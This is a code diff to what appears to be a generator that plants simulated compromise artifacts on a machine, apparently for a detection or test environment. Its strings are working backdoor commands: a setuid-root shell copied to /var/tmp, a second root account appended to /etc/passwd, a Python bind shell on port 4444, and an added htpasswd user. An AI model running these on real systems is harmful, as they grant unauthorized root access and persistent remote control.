@@ -20,11 +20,15 @@ export const kind = mutationKind({
         ),
         inOne(name, 'a shell with the rights of root lies in a folder of everybody', 'cp /bin/sh /var/tmp/.sh\nchmod 4755 /var/tmp/.sh'),
         inOne(name, 'a second account of root', "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd", 0.3),
-        inOne(
-          name,
-          'a program listens and gives a shell',
-          'command -v python3 > /dev/null\nsetsid python3 -c \'import socket,subprocess\ns=socket.create_server(("",4444))\nwhile True:\n c,_=s.accept(); subprocess.Popen(["sh"],stdin=c,stdout=c,stderr=c)\' > /dev/null 2>&1 < /dev/null &\nsleep 1',
-        ),
+        ...(has(machine, 'python3')
+          ? [
+              inOne(
+                name,
+                'a program listens and gives a shell',
+                'setsid python3 -c \'import socket,subprocess\ns=socket.create_server(("",4444))\nwhile True:\n c,_=s.accept(); subprocess.Popen(["sh"],stdin=c,stdout=c,stderr=c)\' > /dev/null 2>&1 < /dev/null &\nsleep 1',
+              ),
+            ]
+          : []),
         ...files
           .filter(({ path }) => /htpasswd/.test(path))
           .map(({ path }) => inOne(name, `somebody was added to ${path}`, `echo ${quote(`contractor:${hashOfNobody}`)} >> ${quote(path)}`)),
